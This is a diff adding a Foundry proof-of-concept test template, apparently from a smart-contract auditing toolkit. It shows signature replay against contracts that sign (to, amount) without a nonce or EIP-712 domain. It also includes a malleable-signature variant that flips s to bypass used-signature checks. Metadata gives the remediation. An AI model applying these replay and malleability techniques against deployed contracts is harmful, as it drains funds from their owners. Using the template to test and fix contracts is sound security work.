@@ -0,0 +1,74 @@
+// ---
+// name: Signature Replay
+// description: Signed authorization carries no nonce or EIP-712 domain and is accepted again
+// vulnerability_type: signature-replay
+// class: signature-replay
+// chain: evm
+// severity: high
+// cwe: [CWE-294]
+// swc: [SWC-121]
+// remediation: "Bind each signature to a nonce, the chain id and the verifying contract (an EIP-712
+//   domain), mark nonces as used, and reject malleable signatures."
+// tags: [ecrecover, nonce, eip-712, foundry]
+// context:
+//   TARGET_CONTRACT: Contract under test
+//   CLAIM_FUNCTION: Function that pays out against a signed (to, amount) message
+//   CLAIM_AMOUNT: Amount the signature authorizes
+// references:
+//   - https://swcregistry.io/docs/SWC-121
+//   - https://eips.ethereum.org/EIPS/eip-712
+// ---
+// SPDX-License-Identifier: MIT
+pragma solidity ^0.8.0;
+
+import "forge-std/Test.sol";
+
+interface ITarget {
+    function {{CLAIM_FUNCTION}}(address to, uint256 amount, uint8 v, bytes32 r, bytes32 s) external;
+}
+
+contract SignatureReplayPoCTest is Test {
+    ITarget target;
+
+    uint256 signerKey = 0xA11CE;
+    address signer = vm.addr(signerKey);
+    address attackerEOA = makeAddr("attacker");
+
+    function setUp() public {
+        // Deploy target contract trusting `signer` and fund it
+        // target = ITarget(address(new {{TARGET_CONTRACT}}(signer)));
+        vm.deal(address(target), 10 * {{CLAIM_AMOUNT}});
+    }
+
+    function testSignatureReplay() public {
+        // Digest the target verifies: no nonce, chain id or verifying contract
+        bytes32 digest = keccak256(abi.encodePacked(attackerEOA, uint256({{CLAIM_AMOUNT}})));
+        (uint8 v, bytes32 r, bytes32 s) = vm.sign(signerKey, digest);
+
+        uint256 balanceBefore = attackerEOA.balance;
+
+        // One authorization, two payouts
+        vm.startPrank(attackerEOA);
+        target.{{CLAIM_FUNCTION}}(attackerEOA, {{CLAIM_AMOUNT}}, v, r, s);
+        target.{{CLAIM_FUNCTION}}(attackerEOA, {{CLAIM_AMOUNT}}, v, r, s);
+        vm.stopPrank();
+
+        console.log("Claimed:", attackerEOA.balance - balanceBefore);
+        assertEq(attackerEOA.balance - balanceBefore, 2 * {{CLAIM_AMOUNT}}, "Signature should be accepted twice");
+    }
+
+    function testMalleableSignature() public {
+        bytes32 digest = keccak256(abi.encodePacked(attackerEOA, uint256({{CLAIM_AMOUNT}})));
+        (uint8 v, bytes32 r, bytes32 s) = vm.sign(signerKey, digest);
+
+        // (r, n - s, v ^ 1) recovers the same signer, bypassing "used signature" maps
+        bytes32 n = 0xFFFFFFFFFFFFFFFFFFFFFFFFFFFFFFFEBAAEDCE6AF48A03BBFD25E8CD0364141;
+        bytes32 flipped = bytes32(uint256(n) - uint256(s));
+        uint8 flippedV = v == 27 ? 28 : 27;
+
+        vm.startPrank(attackerEOA);
+        target.{{CLAIM_FUNCTION}}(attackerEOA, {{CLAIM_AMOUNT}}, v, r, s);
+        target.{{CLAIM_FUNCTION}}(attackerEOA, {{CLAIM_AMOUNT}}, flippedV, r, flipped);
+        vm.stopPrank();
+    }
+}